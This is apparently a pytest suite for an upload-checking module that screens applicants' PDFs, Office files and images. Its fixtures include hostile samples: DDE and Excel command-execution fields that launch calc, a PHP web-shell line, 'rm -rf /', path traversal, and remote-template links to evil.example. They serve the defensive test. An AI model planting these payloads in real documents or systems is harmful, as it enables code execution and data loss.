"""Each reason by a real file that earns it, read in the child process as in the office."""

from collections.abc import Callable
from datetime import date, timedelta
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from intake_app.examination.child import read_in_child
from intake_app.examination.judging import (
    Accepted,
    Expected,
    FormMark,
    Holder,
    Place,
    examination_of,
    examined,
    remarks_at_the_door,
)
from intake_app.examination.limits import PIXELS, READ_PAGES, UNPACKED_BYTES
from intake_app.examination.office_reader import is_elsewhere
from intake_app.examination.pdf_reader import read_pdf
from intake_app.examination.reader import read
from intake_app.examination.reasons import definitions, remark_words
from intake_app.schemes.house import read_house
from models.examination import Examination, FileRemark, FileVerdict
from models.file_reasons import FileReason
from models.reference import ClauseRef
from tests.examination import files

TODAY = date(2026, 6, 1)
CLAUSE = ClauseRef(document="CNEX-01-G:2026", clause="9.2.1 b")
FILES = read_house().files
ACCEPTED = Accepted(
    media_types={kind.extension: kind.media_type for kind in FILES.accepted},
    limit_megabytes=FILES.upload_limit_megabytes, clause=FILES.clause,
)
COMPANY = Holder(name="南阳示范防爆电机有限公司（虚构）", credit_code="91411300MA0T3R716U")
OTHER_NAME, OTHER_CODE = "温州示范电器有限公司", "91330382MA0T4E628K"
LICENCE = Expected(today=TODAY, clause=CLAUSE, holder=COMPANY, has_valid_until=True, reminder_months=3)
PLAIN = Expected(today=TODAY, clause=CLAUSE)
FORM = Expected(today=TODAY, clause=CLAUSE, needs_seal=True, form_mark=FormMark(stem="CNEX-01-G:", version="2026"))
FIRST_SITE = Place(name="1 号厂区", address="河南省南阳市宛城区示范路 1 号")
SITE = Expected(today=TODAY, clause=CLAUSE, place=FIRST_SITE,
                other_places=(Place(name="北厂区", address="河南省南阳市卧龙区示范北路 9 号"),))


def licence(*lines: str, name: str = COMPANY.name, code: str = COMPANY.credit_code) -> bytes:
    return files.pdf("\n".join(("营业执照", f"名 称：{name}", f"统一社会信用代码：{code}", *lines)))


def examine(name: str, content: bytes, expected: Expected = PLAIN) -> Examination:
    """As the office does it: first name and size, then what is in it."""
    at_the_door = remarks_at_the_door(name, len(content), ACCEPTED)
    return examination_of(at_the_door) if at_the_door else examined(name, read_in_child(content), ACCEPTED, expected)


def remark(examination: Examination, reason: FileReason) -> FileRemark:
    return next(each for each in examination.remarks if each.reason is reason)


Made = Callable[[], bytes]

CASES: list[tuple[FileReason, str, Made, Expected, str]] = [
    (FileReason.EMPTY, "空.pdf", lambda: b"", PLAIN, "0 字节"),
    (FileReason.TOO_LARGE, "大.pdf", lambda: bytes(20 * 1024 * 1024 + 1), PLAIN, "20 MB"),
    (FileReason.NO_EXTENSION, "无扩展名", lambda: files.pdf("x"), PLAIN, "没有扩展名"),
    (FileReason.NO_EXTENSION, "第2.5版", lambda: files.pdf("x"), PLAIN, "没有扩展名"),
    (FileReason.EXTENSION_NOT_ACCEPTED, "宏.docm", lambda: files.docx("x"), PLAIN, ".docm"),
    (FileReason.DOUBLE_EXTENSION, "执照.exe.pdf", lambda: files.pdf("x"), PLAIN, ".exe"),
    (FileReason.NAME_TRICK, "../../执照.pdf", lambda: files.pdf("x"), PLAIN, "路径"),
    (FileReason.NAME_TRICK, "执照\u202efdp.pdf", lambda: files.pdf("x"), PLAIN, "不可见"),

    (FileReason.NOT_AS_NAMED, "假.pdf", files.image, PLAIN, "PNG 图片"),
    (FileReason.NOT_AS_NAMED, "假.docx", lambda: files.xlsx([["电力"]]), PLAIN, "Excel"),
    (FileReason.NOT_AS_NAMED, "脚本.png", lambda: b"<script>alert(1)</script>", PLAIN, "无法识别"),
    (FileReason.NOT_AS_NAMED, "网页.pdf", lambda: b" <script>alert(1)</script>" + files.pdf("x"), PLAIN, "无法识别"),
    (FileReason.NOT_AS_NAMED, "动图.pdf", lambda: b"GIF89a" + files.pdf("x"), PLAIN, "GIF 图片"),
    (FileReason.PROGRAM, "程序.pdf", lambda: b"MZ" + bytes(90), PLAIN, "程序"),
    (FileReason.OLD_OFFICE_FORMAT, "旧.docx", lambda: files.ole("WordDocument"), PLAIN, ".doc"),
    (FileReason.LOCKED_PDF, "锁.pdf", lambda: files.locked_pdf("x", "秘密"), PLAIN, "密码"),
    (FileReason.LOCKED_OFFICE, "锁.xlsx", lambda: files.ole("EncryptedPackage"), PLAIN, "密码"),
    (FileReason.LOCKED_ARCHIVE, "锁.docx", files.locked_archive, PLAIN, "密码"),
    (FileReason.TRUNCATED, "断.pdf", lambda: files.pdf("x" * 60, "y")[:-700], PLAIN, "不完整"),
    (FileReason.TRUNCATED, "断.docx", lambda: files.docx("x")[:-30], PLAIN, "不完整"),
    (FileReason.TRUNCATED, "断.jpg", lambda: files.image("JPEG")[:-9000], PLAIN, "不完整"),
    (FileReason.DAMAGED, "坏.pdf", lambda: b"%PDF-1.4\n" + b"garbage " * 20 + b"%%EOF", PLAIN, "损坏"),
    (FileReason.DAMAGED, "坏.docx", lambda: files.docx("x", body="<w:p>"), PLAIN, "损坏"),
    (FileReason.DAMAGED, "坏.png", lambda: files.image()[:16] + bytes(200), PLAIN, "损坏"),

    (FileReason.ARCHIVE_BOMB, "炸.docx",
     lambda: files.docx("x", **{"word/media/a.bin": bytes(20 * 1024 * 1024)}), PLAIN, "解压"),
    (FileReason.ARCHIVE_BOMB, "炸.xlsx",
     lambda: files.archive({f"xl/{n}": bytes(15 * 1024 * 1024) for n in range(UNPACKED_BYTES // 15_000_000 + 1)}),
     PLAIN, "解压"),
    (FileReason.ARCHIVE_PATHS, "路.docx", lambda: files.docx("x", **{"../../etc/passwd": "x"}), PLAIN, "路径"),
    (FileReason.XML_ENTITIES, "笑.docx", files.laughing_docx, PLAIN, "实体"),
    (FileReason.TOO_MANY_PIXELS, "巨.png", lambda: files.huge_png(60_000), PLAIN, "60000×60000"),
    (FileReason.TOO_DEEP, "深.docx", lambda: files.docx(body="<w:p>" * 5000 + "</w:p>" * 5000), PLAIN, "嵌套"),
    (FileReason.TOO_DEEP, "深.pdf", lambda: files.deep_pdf(100_000), PLAIN, "嵌套"),
    (FileReason.TOO_DEEP, "树.pdf", lambda: files.branching_pdf(40), PLAIN, "嵌套"),

    (FileReason.MACRO, "宏.docx", lambda: files.docx("x", **{"word/vbaProject.bin": b"x"}), PLAIN, "vbaProject"),
    (FileReason.MACRO, "改名宏.docx", lambda: files.docx("x", **{
        "word/_rels/document.xml.rels": files.relations("vbaProject", "plain.bin", "Internal"),
        "word/plain.bin": b"x"}), PLAIN, "plain.bin"),
    (FileReason.PDF_SCRIPT, "表单.pdf", files.scripted_form_pdf, PLAIN, "JavaScript"),
    (FileReason.PDF_SCRIPT, "脚本.pdf",
     lambda: files.acting_pdf("/JavaScript", "/JS", "app.alert(1)"), PLAIN, "JavaScript"),
    (FileReason.PDF_LAUNCH, "启动.pdf", lambda: files.acting_pdf("/Launch", "/F", "calc.exe"), PLAIN, "启动"),
    (FileReason.PDF_ATTACHMENT, "附件.pdf",
     lambda: files.changed_pdf(files.pdf("x"), lambda writer: writer.add_attachment("发票.xml", b"<x/>")), PLAIN,
     "发票.xml"),
    (FileReason.REMOTE_TEMPLATE, "模板.docx", lambda: files.docx("x", **{
        "word/_rels/settings.xml.rels": files.relations("attachedTemplate", "http://192.0.2.1/a.dotm")}), PLAIN,
     "192.0.2.1"),
    (FileReason.OFFICE_COMMAND, "域.docx", lambda: files.docx(
        "x", body='<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe "/k calc"'
                  "</w:instrText></w:r></w:p>"), PLAIN, "命令"),
    (FileReason.OFFICE_COMMAND, "域.xlsx", lambda: files.xlsx([["电力", "=cmd|'/c calc'!A1"]]), PLAIN, "命令"),
    (FileReason.EMBEDDED_OBJECT, "对象.docx",
     lambda: files.docx("x", **{"word/embeddings/oleObject1.bin": b"x"}), PLAIN, "oleObject1"),
    (FileReason.EMBEDDED_OBJECT, "程序对象.docx", lambda: files.docx("x", **{
        "word/_rels/document.xml.rels": files.relations("package", "embeddings/setup.exe", "Internal"),
        "word/embeddings/setup.exe": b"MZ"}), PLAIN, "setup.exe"),
    (FileReason.REMOTE_TEMPLATE, "远图.docx",
     lambda: files.docx("x", body=files.field('INCLUDEPICTURE "http://192.0.2.1/a.png"')), PLAIN, "192.0.2.1/a.png"),
    (FileReason.REMOTE_TEMPLATE, "远数.xlsx",
     lambda: files.xlsx([["电力", '=_xlfn.WEBSERVICE("http://192.0.2.1/?q=1")']]), PLAIN, "192.0.2.1"),
    (FileReason.EXTERNAL_LINK, "链接.xlsx", lambda: files.xlsx([["电力"]], **{
        "xl/externalLinks/_rels/externalLink1.xml.rels": files.relations("externalLinkPath", "台账2024.xlsx")}), PLAIN,
     "台账2024.xlsx"),

    (FileReason.BEHIND_PICTURE, "照片.jpg", lambda: files.image("JPEG") + files.docx("x"), PLAIN, "压缩包"),
    (FileReason.BEHIND_PICTURE, "扫描.png", lambda: files.image() + files.windows_program(), PLAIN, "程序"),
    (FileReason.BEHIND_PICTURE, "页.png", lambda: files.image() + b"\n<HTML><body>x", PLAIN, "网页"),

    (FileReason.NO_CONTENT, "白.docx", files.docx, PLAIN, "没有文字"),
    (FileReason.NO_CONTENT, "白.xlsx", files.xlsx, PLAIN, "没有文字"),
    (FileReason.NO_CONTENT, "白.pdf", lambda: files.pdf(""), PLAIN, "没有文字"),
    (FileReason.IMAGE_TOO_SMALL, "小.png", lambda: files.image(size=(320, 240)), PLAIN, "320×240"),
    (FileReason.IMAGE_BLANK, "白.jpg", lambda: files.image("JPEG", blank=True), PLAIN, "空白"),
    (FileReason.NOT_MACHINE_READABLE, "照片.jpg", lambda: files.image("JPEG"), PLAIN, "评审人员会查看"),
    (FileReason.NOT_MACHINE_READABLE, "扫描.pdf", files.scanned_pdf, PLAIN, "评审人员会查看"),
    (FileReason.SOME_PAGES_UNREADABLE, "半扫描.pdf", lambda: files.scanned_pdf("封面", "", "附表", ""), PLAIN, "2, 4"),
    (FileReason.TOO_MANY_PAGES, "厚.pdf", lambda: files.pdf(*["页"] * (READ_PAGES + 1)), PLAIN, f"{READ_PAGES + 1} 页"),
    (FileReason.PAGES_MISSING, "缺.pdf", lambda: files.pdf(*(f"正文\n第 {n} 页 共 4 页" for n in (1, 2, 4))), PLAIN,
     "缺第 3 页"),
    (FileReason.TRACKED_CHANGES, "修订.docx", lambda: files.docx(
        body="<w:p><w:ins><w:r><w:t>新</w:t></w:r></w:ins></w:p>"), PLAIN, "修订"),
    (FileReason.HIDDEN_SHEETS, "隐藏.xlsx", lambda: files.xlsx([["电力"]], state="veryHidden"), PLAIN, "数据"),
    (FileReason.NO_SEAL, "委托书.docx", lambda: files.docx("委托书"), FORM, "印章"),
    (FileReason.UNSIGNED_FIELD, "待签.pdf", files.unsigned_pdf, PLAIN, "签名域"),

    (FileReason.OTHER_COMPANY, "执照.pdf", lambda: licence(name=OTHER_NAME), LICENCE, OTHER_NAME),
    (FileReason.HOLDER_NOT_FOUND, "执照.pdf", lambda: files.pdf("食品经营许可证"), LICENCE, COMPANY.name),
    (FileReason.OTHER_CREDIT_CODE, "执照.pdf", lambda: licence(code=OTHER_CODE), LICENCE, OTHER_CODE),
    (FileReason.OTHER_SITE, "场所.pdf", lambda: files.pdf("生产地址：河南省南阳市卧龙区示范北路9号"), SITE, "北厂区"),
    (FileReason.OTHER_FORM_VERSION, "委托书.pdf", lambda: files.pdf("认证委托书（CNEX-01-G：2024）"), FORM,
     "CNEX-01-G:2024"),
    (FileReason.EXPIRED, "执照.pdf", lambda: licence("营业期限：2015年5月1日至2025年4月30日"), LICENCE, "2025-04-30"),
    (FileReason.EXPIRING_SOON, "执照.pdf", lambda: licence("有效期至：2026-09-01"), LICENCE, "2026-09-01"),
    (FileReason.NOT_YET_VALID, "执照.pdf",
     lambda: licence("有效期：2026年7月1日至2031年6月30日"), LICENCE, "2026-07-01"),
    (FileReason.VALIDITY_DIFFERS, "执照.pdf", lambda: licence("有效期至 2027-05-01"),
     LICENCE.with_(stated_until=date(2028, 5, 1)), "2028-05-01"),
]


@pytest.mark.parametrize(("reason", "name", "make", "expected", "says"), CASES,
                         ids=[f"{reason}-{name}" for reason, name, *_ in CASES])
def test_a_file_is_given_its_reason(reason: FileReason, name: str, make: Made, expected: Expected, says: str) -> None:
    """The sentence names what was found, the remedy says what to do, in both languages, with a clause."""
    examination = examine(name, make(), expected)
    assert [each.reason for each in examination.remarks if each.reason is reason] == [reason]
    assert examination.verdict is max(
        (definitions()[each.reason].verdict for each in examination.remarks), key=list(FileVerdict).index)
    found = remark(examination, reason)
    words = remark_words(found)
    assert says in words.problem.zh + words.remedy.zh
    assert found.clause in (CLAUSE, FILES.clause)


MADE_ELSEWHERE = {
    FileReason.TIME_LIMIT, FileReason.MEMORY_LIMIT, FileReason.READER_FAILED,
    FileReason.SAME_AS_HANDED_IN, FileReason.SAME_AS_RETURNED, FileReason.SAME_AS_ANOTHER,
    FileReason.MALWARE, FileReason.NOT_SCANNED,
}
"""What the child's limits, the application's other files and the malware scan say: test_child, test_documents."""


def test_every_reason_has_a_file_that_earns_it() -> None:
    assert {reason for reason, *_ in CASES} | MADE_ELSEWHERE == set(FileReason)


@pytest.mark.parametrize("reason", FileReason)
def test_every_reason_says_what_is_wrong_and_what_to_do_in_both_languages(reason: FileReason) -> None:
    """Chinese sentences are Chinese, English ones are not, and both name the same particulars."""
    definition = definitions()[reason]
    for text in (definition.problem, definition.remedy):
        assert text.zh.endswith("。")
        assert text.en.endswith(".")
        assert not any("一" <= character <= "鿿" for character in text.en)
        assert {part.split("}")[0] for part in text.zh.split("{")[1:]} == {
            part.split("}")[0] for part in text.en.split("{")[1:]}


FINE = [
    ("执照.pdf", lambda: licence("营业期限：2010年05月01日至2040年04月30日"), LICENCE),
    ("执照.pdf", lambda: licence("营业期限：长期"), LICENCE),
    ("锁改.pdf", lambda: files.locked_pdf("能打开的文件", ""), PLAIN),
    ("说明.docx", lambda: files.docx("工艺流程说明"), PLAIN),
    ("模板.docx", lambda: files.docx("x", **{"word/_rels/settings.xml.rels": files.relations(
        "attachedTemplate", "file:///C:\\Users\\zhang\\Templates\\Normal.dotm")}), PLAIN),
    ("链接.docx", lambda: files.docx("x", **{"word/_rels/document.xml.rels": files.relations(
        "hyperlink", "https://www.example.com")}), PLAIN),
    ("插图.docx", lambda: files.docx("x", body=files.field("INCLUDEPICTURE C:\\\\图\\\\a.png")), PLAIN),
    ("图表.docx", lambda: files.docx("x", **{"word/charts/_rels/chart1.xml.rels": files.relations(
        "package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", "Internal")}), PLAIN),
    ("打印机.pdf", lambda: b"@PJL JOB\r\n" + files.pdf("打印机写在前面的话"), PLAIN),
    ("末尾空格.PDF ", lambda: files.pdf("x"), PLAIN),
    ("台账.xlsx", lambda: files.xlsx([["电力", "kWh"], ["=SUM(A1:A2)"]]), PLAIN),
    ("营业执照.docx.pdf", lambda: files.pdf("打印为 PDF"), PLAIN),
    ("2025.12.31 台账 v1.2.XLSX", lambda: files.xlsx([["电力"]]), PLAIN),
    ("委托书.pdf", lambda: files.pdf("认证委托书 CNEX-01-G:2026"), FORM.with_(needs_seal=False)),
    ("场所.pdf", lambda: files.pdf("地址 河南省南阳市宛城区示范路1号，另有河南省南阳市卧龙区示范北路9号"), SITE),
    ("全.pdf", lambda: files.pdf(*(f"第 {n} 页 共 3 页" for n in (1, 2, 3))), PLAIN),
]


@pytest.mark.parametrize(("name", "make", "expected"), FINE)
def test_an_ordinary_file_is_fine(name: str, make: Made, expected: Expected) -> None:
    """What people really hand in is not remarked upon."""
    assert examine(name, make(), expected).remarks == ()


@pytest.mark.parametrize("filling", [b"\0" * 5000, b"\0" * 5000 + b"\r\n", b" \n" * 5000])
def test_a_whole_pdf_is_whole_with_zeros_behind_its_end(filling: bytes) -> None:
    """CNEX-9.2.1-c: a disk or a mail gateway fills the last block up; one that is cut off stays so."""
    whole = files.pdf("营业执照")
    assert read_pdf(whole + filling).faults == ()
    assert [fault.reason for fault in read_pdf(whole[:-700] + filling).faults] == [FileReason.TRUNCATED]


def loading(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A Word file that takes something from this address when it is opened."""
    return files.docx("x", **{part: files.relations(kind, escape(target, {'"': "&quot;"}))})


def reasons_of(content: bytes) -> list[FileReason]:
    return [fault.reason for fault in read(content).faults]


@pytest.mark.parametrize(("kind", "target"), [
    ("attachedTemplate", "file:///\\\\evil.example\\share\\x.dotm"),
    ("attachedTemplate", "file:////evil.example/x.dotm"),
    ("attachedTemplate", "file:///%5C%5Cevil.example%5Cx.dotm"),
    ("attachedTemplate", "file:%2F%2F%2F%2Fevil.example/x.dotm"),
    ("attachedTemplate", " http://evil.example/x.dotm"),
    ("attachedTemplate", "ht tp://evil.example/x.dotm"),
    ("attachedTemplate", "\\\\evil.example\\x.dotm"),
    ("attachedTemplate", "/\\evil.example/x.dotm"),
    ("image", "//evil.example/x.png"),
    ("image", "smb://evil.example/x.png"),
    ("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"),
    ("frame", "ms-word:ofe|u|http://evil.example/a.docx"),
])
def test_what_is_loaded_from_elsewhere_is_refused_however_it_is_written(kind: str, target: str) -> None:
    """Everything that is not known to lie at hand counts as another machine's."""
    assert reasons_of(loading(kind, target)) == [FileReason.REMOTE_TEMPLATE]


def test_references_are_read_whatever_the_case_of_their_part() -> None:
    content = loading("attachedTemplate", "http://evil.example/x.dotm", "word/_rels/settings.xml.RELS")
    assert reasons_of(content) == [FileReason.REMOTE_TEMPLATE]


@pytest.mark.parametrize("target", [
    "media/image1.png", "../media/图 1.png", "Normal.dotm", "/Users/zhang/Normal.dotm", "#_ftn1", "NULL",
    "C:\\Users\\张\\Normal.dotm", "d:/模板/a.dotm", "file:///C:\\Users\\zhang\\Normal.dotm",
    "file:///C:/Users/zhang/a%20b.dotm", "file:///Users/zhang/Normal.dotm",
    "file:////Users/zhang/Library/Group%20Containers/UBF8T346G9.Office/Normal.dotm",
    "file:////Applications/Microsoft%20Word.app/Contents/Resources/Normal.dotm", "file:////Volumes/盘/a.dotm",
    "D:a.dotm", "about:blank", "data:image/png;base64,AAAA",
    "cid:image001.png@01DA5B3C.0F7A1B20",
])
def test_what_lies_at_hand_is_not_remarked_upon(target: str) -> None:
    """Neighbours of the file, and the author's own disk as Windows and a Mac write it."""
    assert reasons_of(loading("attachedTemplate", target)) == []


@given(
    scheme=st.from_regex(r"[a-zA-Z][a-zA-Z0-9+.-]{1,8}", fullmatch=True).filter(
        lambda word: word.lower() not in ("file", "cid")),
    rest=st.text("abc./\\:!%20", max_size=12), blanks=st.text(" \t\n", max_size=2),
)
def test_no_protocol_leads_past_the_look(scheme: str, rest: str, blanks: str) -> None:
    """Whatever it is called, and with blanks before it that Windows leaves out."""
    assert is_elsewhere(f"{blanks}{scheme}:{rest}")


@pytest.mark.parametrize("make", [
    lambda: files.png(files.plan("RGBA", (0, 0, 0, 0), (0, 0, 0, 255))),
    lambda: files.png(files.plan("RGBA", (255, 255, 255, 0), (0, 0, 0, 255))),
    lambda: files.png(files.plan("LA", (0, 0), (0, 255))),
    files.palette_plan,
    lambda: files.sixteen_bits(65535), lambda: files.sixteen_bits(60000), lambda: files.sixteen_bits(4095),
])
def test_a_drawing_is_seen_as_on_white_paper_and_in_all_its_bits(make: Made) -> None:
    """Lines on a transparent ground, and scans of 16 bits of which a scanner uses twelve or all."""
    assert FileReason.IMAGE_BLANK not in reasons_of(make())


@pytest.mark.parametrize("make", [
    lambda: files.png(Image.new("RGBA", (1240, 1754), (0, 0, 0, 0))),
    lambda: files.png(Image.new("RGBA", (1240, 1754), (255, 255, 255, 255))),
    lambda: files.png(Image.new("I;16", (1240, 1754), 65535)),
])
def test_an_empty_sheet_stays_blank_whatever_its_colours(make: Made) -> None:
    assert FileReason.IMAGE_BLANK in reasons_of(make())


PHOTOGRAPHS = {"jpeg": lambda: files.image("JPEG"), "png": files.image, "with a thumbnail": files.thumbnailed_jpeg,
               "two pictures": files.pair_of_pictures,
               "progressive": lambda: files.jpeg(files.drawing(), progressive=True)}
HARMLESS = {
    "nothing": b"", "zeros": bytes(4096), "line": b"\r\n", "film": files.film(), "notes": files.notes_of_a_phone(),
    "properties": b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>',
    "letters": b"QDIO" + b"MZ" * 900 + b"PK\x03\x04 <htm PK\x05\x06 \x7fELF",
    "another": files.image("JPEG", (320, 240)),
}
HARMFUL = {
    "archive": files.archive({"a.txt": "x" * 500}), "book": files.docx("x"), "torn archive": b"PK\x03\x04" + bytes(99),
    "windows": files.windows_program(), "linux": b"\x7fELF\x02\x01\x01" + bytes(57), "script": b"#!/bin/sh\nrm -rf /\n",
    "page": b"<!DOCTYPE html><html>", "code": b"<script src=//evil.example>", "php": b"<?php system($_GET['c']);",
}


@pytest.mark.parametrize("make", PHOTOGRAPHS.values(), ids=PHOTOGRAPHS)
@pytest.mark.parametrize("tail", HARMLESS.values(), ids=HARMLESS)
def test_what_phones_and_disks_put_behind_a_picture_is_not_remarked(make: Made, tail: bytes) -> None:
    """CNEX-9.2.1-c: a second picture, the film of a moving photograph, notes, a block filled up."""
    assert reasons_of(make() + tail) == []


@pytest.mark.parametrize("make", PHOTOGRAPHS.values(), ids=PHOTOGRAPHS)
@pytest.mark.parametrize("between", [b"", b"\0" * 40, b"\r\n"], ids=["at once", "zeros", "line"])
@pytest.mark.parametrize("tail", HARMFUL.values(), ids=HARMFUL)
def test_an_archive_a_program_or_a_page_behind_a_picture_is_refused(make: Made, between: bytes, tail: bytes) -> None:
    """CNEX-9.2.1-c: a viewer shows the picture, another program opens what hangs behind it."""
    assert reasons_of(make() + between + tail) == [FileReason.BEHIND_PICTURE]


@pytest.mark.parametrize("tail", [files.archive({"a.txt": "x"}), files.windows_program(), b"<script>"],
                         ids=["archive", "program", "page"])
@pytest.mark.parametrize("ahead", [files.film(), files.notes_of_a_phone(), files.image("JPEG", (320, 240))],
                         ids=["film", "notes", "picture"])
def test_what_a_phone_puts_behind_a_picture_hides_nothing(ahead: bytes, tail: bytes) -> None:
    assert reasons_of(files.image("JPEG") + ahead + tail) == [FileReason.BEHIND_PICTURE]


@pytest.mark.parametrize("filling", [b"\xff", b"\xff\0", b"\xff\xd8", b"\xff\xe0\0\2"])
def test_a_picture_of_nothing_but_marks_is_given_up_in_time(filling: bytes) -> None:
    """20 MB of them: the look for the end goes over each once."""
    content = files.image("JPEG")[:-2] + filling * (19_000_000 // len(filling))
    assert FileReason.TIME_LIMIT not in [fault.reason for fault in read_in_child(content).faults]


def test_a_picture_that_breaks_off_has_nothing_behind_it() -> None:
    """What is told is that it breaks off."""
    assert reasons_of(files.image("JPEG")[:-9000]) == [FileReason.TRUNCATED]


def test_a_printed_last_day_is_proposed_with_its_words() -> None:
    """J48: kept for the reminder once the applicant confirms it."""
    validity = examine("执照.pdf", licence("有 效 期 至 2027 年 5 月 1 日"), LICENCE).validity
    assert validity
    assert (validity.until, validity.quoted) == (date(2027, 5, 1), "有效期至2027年5月1日")
    endless = examine("执照.pdf", licence("营业期限：长期"), LICENCE).validity
    assert endless
    assert endless.until is None
    assert examine("执照.pdf", licence("有效期至 2027年5月1日"), PLAIN).validity is None


@pytest.mark.parametrize(("until", "verdict"), [
    (TODAY - timedelta(days=1), FileVerdict.REFUSED), (TODAY, FileVerdict.REMARKED),
    (date(2026, 9, 1), FileVerdict.REMARKED), (date(2026, 9, 2), FileVerdict.FINE),
])
def test_a_licence_is_good_on_its_last_day_and_remarked_upon_three_months_ahead(
    until: date, verdict: FileVerdict
) -> None:
    """J48: the boundary days."""
    assert examine("执照.pdf", licence(f"有效期至 {until}"), LICENCE).verdict is verdict


def test_a_misread_date_gives_way_to_the_applicants_word_and_a_person_looks() -> None:
    content = licence("有效期至 2021-05-01")
    assert examine("执照.pdf", content, LICENCE).verdict is FileVerdict.REFUSED
    stated = examine("执照.pdf", content, LICENCE.with_(stated_until=date(2031, 5, 1)))
    assert [each.reason for each in stated.remarks] == [FileReason.VALIDITY_DIFFERS]


def test_several_faults_are_said_at_once() -> None:
    """Nobody uploads three times to learn three things."""
    named = examine("../执照.exe", b"")
    assert {each.reason for each in named.remarks} == {
        FileReason.NAME_TRICK, FileReason.EXTENSION_NOT_ACCEPTED, FileReason.EMPTY}
    other = examine("执照.pdf", licence("有效期至 2026-08-01", name=OTHER_NAME, code=OTHER_CODE), LICENCE)
    assert {each.reason for each in other.remarks} == {
        FileReason.OTHER_COMPANY, FileReason.OTHER_CREDIT_CODE, FileReason.EXPIRING_SOON}


def test_the_largest_picture_is_read_within_the_childs_memory() -> None:
    side = int(PIXELS ** 0.5)
    assert examine("大图.png", files.image(size=(side, side))).verdict is FileVerdict.REMARKED
